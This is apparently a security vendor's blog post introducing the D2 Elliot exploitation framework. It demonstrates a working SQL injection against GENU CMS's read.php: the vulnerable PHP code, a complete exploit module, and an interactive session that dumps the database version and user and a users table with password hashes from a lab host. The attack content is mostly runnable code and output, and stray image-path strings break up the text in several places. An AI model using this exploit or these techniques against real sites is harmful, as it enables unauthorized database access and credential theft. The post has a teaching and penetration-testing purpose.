SQL Injection exploitation with D2 Elliot

This post is anintroduction to D2 Elliot, the Web Exploitation Framework, and willfocus on its SQL injection capabilities.

As a short disclaimer, for the rest of the article, the keyword "target" defines your lab VM or pentest training instance. The vulnerable application has been taken as a random example from the current landscape of vulnerabilities.

Let's start with a simple use, by exploiting GENU CMS. We will see how a simple SQL injection vulnerability is handled by the framework and is exploited in a matter of seconds.

The vulnerability

The vulnerable code is present in the articles/read.php file:

$sql->query('SELECT ' . TABLE_ARTICLES . '.article_date, ' . TABLE_ARTICLES . '.article_subject, ' . TABLE_ARTICLES . '.article_text,' . TABLE_USERS . '.user_id, ' . TABLE_USERS . '.user_name
                 FROM ' . TABLE_ARTICLES . ', ' . TABLE_USERS . '
                 WHERE ' . TABLE_ARTICLES . '.user_id = ' . TABLE_USERS . '.user_id
                 AND ' . TABLE_ARTICLES . '.article_id = ' . $_GET['article_id']);
$table_articles = $sql->fetch();

This is easily exploited by reaching the following URL:


How do we implement this exploitation in Elliot?

We create a new exploit and select the appropriate type of exploit, here it's an SQL exploit. The web exploits often share the common attribute of being directed to a particular vulnerable webpage. The vulnerable URL is given and we mark the injection point with the "" pattern. Once the exploit is created, several payloads can be selected, from running a simple SQL query to listing users or dumping the database structure.

from core.templates.exploits import *
class MyExploit(xSQLi):

    uid = 'E-37'

    _extra_description = {
        'name': 'GENU CMS SQL Injection',
        'creation': '2012/04/12',
        'lastupdate': '2013/04/02','description': 'GENU CMS sqli (read.php)',
        'comment': '',
        'author': ('',),
        'vendor': 'gnew.fr',
        'zeroday': False,
        'published': '',
        'references': (
        'cve': (),
        'vulnid': ('OSVDB-80971',),
        'platform': Platform.All,
        'application': 'GENU CMS',
        'version': ('4',),'module': '',
        'requirements': {},
        'payload': Payload.SQL,
        'family': Family.SQLi,
        'googledork': '',
        'stealth': Stealth.Stealth,

    vuln_page_default = 'articles/read.php?article_id=<WRAPPER>'

The <WRAPPER> tag specifies that we want Elliot to determine how to inject; it will therefore detect if we need a quote in before the injection string, a comment at the end, etc; overall, the injection details.
Let's now run some different payloads:

>>> from core import *
>>> es = ExploitationSession()
>>> website = es.kb.add_website('http://vmvuln/GENU-2012.3/')
>>> attack = Attack('E-37', {}, 'SQL Query', {'sql': 'SELECT version(), user(), database()'}, es)
>>> attack.do(website)
>>> attack.status
>>> print(attack.exploit_result)
| version()               | user()         | database() |
| 5.5.34-0ubuntu0.12.04.1 | root@localhost | genu       |

That's as simple as that. Let's now spawn a session to run several SQL queries.

>>> attack = Attack('E-37', {}, 'SQL Gate', {}, es)
>>> attack.do(website)
>>> attack.session.pseudo_shell()[SQLSession @] selectuser(), version(), database()
| user()         | version()               | database() |
| root@localhost | 5.5.34-0ubuntu0.12.04.1 | genu       |
[SQLSession @] select user_id, user_name, user_password from genu_users;
| user_id | user_name | user_password                            |
| 1       | admin     | 5baa61e4c9b93ffe0688250b6c8f331bdde68fd8 |
| 2       | user1     | ee11cbb19052e40b07aac0ca060c239052e40b07 |
| 3       | user2     | ee11cbb19052e40b07aac0ca060c239052e40b07 |
[SQLSession @]

How does that work?

First, the exploit needs to determine what kind of DBMS is running. The vulnerability is tried in different ways to determine which one of the known DBMS (see here) is the best match. Then, according to the DBMS, it computes some additional parameters, like the way to encode strings to bypass filters.

2014-01-23 14:01:00 - DETAIL     - ConfiguringMySQL [1 parameter].
2014-01-23 14:01:00 - DETAIL     - Configuration success.
2014-01-23 14:01:00 - DETAIL     - MySQL(encoding='hexadecimal')
2014-01-23 14:01:00 - DETAIL     - [SQL: DBMS fingerprint]MySQL

Then, an injection method must be determined. From the number of injection methods it knows on MySQL (see here as well), Elliot determines the union method would fit the most on this simple case.
It therefore configures its parameters.

2014-01-23 14:01:00 - DETAIL     - Configuring UNION based SQL injection [4 parameters].
2014-01-23 14:01:01 - DETAIL     - Configuration success.
2014-01-23 14:01:01 - DETAIL     - UnionMethod(every_result=False, stack_results=True, displayed_field=1, fields=5)
2014-01-23 14:01:01 - DETAIL     - [SQL: Method fingerprint] UNION based SQL injection

Let's break down these four parameters one by one:

1) fields
First, we need to know how much fields are in the first query, so that the number of fields in our injection matches it.

2) displayed_field
Then Elliot determines one field that is displayed in the page, in order to fetch injection results.

3) every_result
Now comes another important information, which is whether or not every row of the SQL query will be displayed in the web page. Often we encounter code that simply fetches the first result, and throws the other away. If it is the case,Elliot will fetch every result one by one, using in this case the LIMIT operator of MySQL.

4) stack_results
Elliot then verifies if a row stacking method is available; if it is, it will greatly improve performance by reducing HTTP exchanges. Some of you might think about the GROUP_CONCAT() function, which allows to obtain several rows as if they were only one. The main problem of this function is that it is limited to 1024 characters, which is not much when we need to obtain, for instance, thecontent of a whole table.

Elliot uses an homebrew extraction method, developed for several DBMS, which allows to obtain every single row of a query as one. This method has no limit of size whatsoever, and fetching thousand of rows only takes a single HTTP exchange.Every parameter can be specified by the user, in the exploit or at runtime, or simply determined by Elliot.


As this article comes to an end, hopefully you can see how easy it is to design and use an exploit with Elliot. The SQL injection engine has been designed to support allkinds of injection, even the most peculiar, and the most advanced. Postsabout more advanced exploits will follow, still in the SQL series. Stay posted on twitter

Back to News

Share :Facebook   Twitter   Google+